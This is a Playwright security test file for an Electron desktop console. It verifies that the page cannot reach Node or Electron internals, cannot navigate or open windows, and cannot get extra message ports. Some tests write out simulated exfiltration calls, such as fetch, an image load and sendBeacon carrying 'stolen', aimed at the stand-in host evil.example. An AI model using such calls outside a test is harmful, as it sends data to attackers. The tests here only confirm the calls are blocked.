import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { STAND_IN_ORIGIN } from '../support/electron-standin/chromium.ts';
import { type StandInConsole, startOnStandIn } from '../support/electron-standin/console.ts';
import { fakeDesktopCore } from '../support/electron-standin/fake-desktop-core.ts';
import { createFakeCore } from '../support/fake-core.ts';
import { cellOf, expect, test as screenTest } from '../support/screen-test.ts';

const test = screenTest.extend<{ desktop: StandInConsole }>({
  desktop: async ({ page }, use) => {
    const core = createFakeCore();
    await using desktop = await startOnStandIn(page, { core: async () => fakeDesktopCore(core) });
    await expect(cellOf(page, 'ehr-db-01', 'logging')).toBeVisible();
    await use(desktop);
  },
});

const stillThere = (page: Page) => expect(cellOf(page, 'ehr-db-01', 'logging')).toBeVisible();

test('the preload is one CommonJS file that needs electron alone', () => {
  const bundle = readFileSync(join(import.meta.dirname, '../../out/preload/index.cjs'), 'utf8');
  expect([...bundle.matchAll(/\brequire\(([^)]*)\)/g)].map(([, what]) => what)).toEqual(['"electron"']);
  expect(bundle).not.toMatch(/^(?:import|export) /m);
});

test('the page sees nothing of the preload, of Node or of Electron', async ({ page, desktop }) => {
  expect(desktop.opened()).toBe(1);
  const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__rounds', '__fromMain'];
  expect(await page.evaluate((all) => all.filter((name) => Reflect.has(window, name)), names)).toEqual([]);
});

test('hostile content cannot navigate', async ({ page, desktop, complaints }) => {
  complaints.expected = /./;
  for (const to of ['https://evil.example/', 'http://127.0.0.1:9/', `${STAND_IN_ORIGIN}/assets/`]) {
    await page.evaluate((url) => window.location.assign(url), to);
    // As Electron says it.
    await expect.poll(() => desktop.attempts.prevented).toContain(to.replace(STAND_IN_ORIGIN, 'rounds://app'));
  }
  await stillThere(page);
  expect(desktop.attempts.escaped).toEqual([]);
});

test('hostile content cannot open a window, nor make us open an address outside', async ({ page, desktop }) => {
  await page.evaluate(() => {
    window.open('https://evil.example/');
  });
  await expect.poll(() => desktop.attempts.prevented.length).toBeGreaterThanOrEqual(1);
  expect(desktop.attempts.escaped).toEqual([]);
  expect(desktop.standIn.outside).toEqual([]);
  await expect.poll(() => page.context().pages().length).toBe(1);
});

test('hostile content cannot reach another origin', async ({ page, desktop, complaints }) => {
  complaints.expected = /evil\.example|connect-src|img-src|policy/;
  const reached = await page.evaluate(async () => {
    const fetched = await fetch('https://evil.example/').then(
      () => 'fetched',
      () => 'refused',
    );
    const image = await new Promise((resolve) => {
      const made = new Image();
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('refused');
      made.src = 'https://evil.example/x.png';
    });
    const beacon = navigator.sendBeacon('https://evil.example/', 'stolen');
    return { fetched, image, beacon };
  });
  expect(reached).toMatchObject({ fetched: 'refused', image: 'refused' });
  expect(desktop.attempts.escaped).toEqual([]);
});

test('a frame gets no port: not by asking for itself, not by asking as the page', async ({ page, desktop }) => {
  await expect.poll(desktop.ports).toBe(1);
  await page.evaluate(() => document.body.append(document.createElement('iframe')));
  await expect.poll(() => page.frames().length).toBe(2);
  const heard = await page.frames()[1]?.evaluate(async () => {
    const got: number[] = [];
    for (const one of [window, window.parent]) one.addEventListener('message', ({ ports }) => got.push(ports.length));
    window.postMessage('rounds:port?', '*');
    window.parent.postMessage('rounds:port?', '*');
    window.parent.postMessage('rounds:port', '*', [new MessageChannel().port1]);
    // Messages are handed over in order: when this one is back, the others have been.
    await new Promise((resolve) => {
      window.addEventListener('message', ({ data }) => data === 'last' && resolve(undefined));
      window.parent.addEventListener('message', ({ data }) => data === 'last' && window.postMessage('last', '*'));
      window.parent.postMessage('last', '*');
    });
    return got;
  });
  // Its own port, which the page did not take, and its four words.
  expect(heard?.filter((ports) => ports > 0)).toEqual([1]);
  expect(desktop.ports()).toBe(1);
  await stillThere(page);
});

test('the page has one port at a time: a new one ends the one before', async ({ page, desktop }) => {
  await expect.poll(desktop.ports).toBe(1);
  await page.evaluate(() => window.postMessage('rounds:port?', '/'));
  // Nobody waited for the second; the page sees that its own has ended, and asks for a third.
  await expect.poll(desktop.ports, { timeout: 15_000 }).toBe(3);
  await expect(page.getByTestId('away')).toHaveCount(0);
  await stillThere(page);
});
